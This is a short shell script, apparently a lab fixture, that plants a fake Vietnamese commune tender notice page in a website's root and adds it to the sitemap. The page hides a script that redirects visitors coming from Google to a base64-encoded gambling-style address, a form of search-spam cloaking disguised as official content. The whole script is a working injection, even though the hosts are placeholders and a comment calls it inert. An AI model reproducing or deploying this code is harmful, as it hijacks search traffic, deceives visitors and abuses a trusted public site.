#!/bin/sh
# hosts: web1
# site: antruc.test
# seen by: review
# A page that leads those who come from a search away by a script whose address is encoded; engines know it from the sitemap.
set -eu
root=/var/www/antruc.test
cat > "$root/thong-bao-dau-thau.html" <<'END'
<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Thông báo đấu thầu</title></head><body><h1>Thông báo đấu thầu</h1>
<p>Ủy ban nhân dân xã thông báo mời thầu sửa chữa đường liên thôn.</p>
<script>/* luytre-lab: inert */if(document.referrer.indexOf("google")>-1){window.location.href=atob("aHR0cHM6Ly9saW5rdmFvbmhhY2FpLmV4YW1wbGUvdmFv")}</script>
</body></html>
END
echo '<urlset><url><loc>https://antruc.test/thong-bao-dau-thau.html</loc></url></urlset>' >> "$root/wp-sitemap.xml"
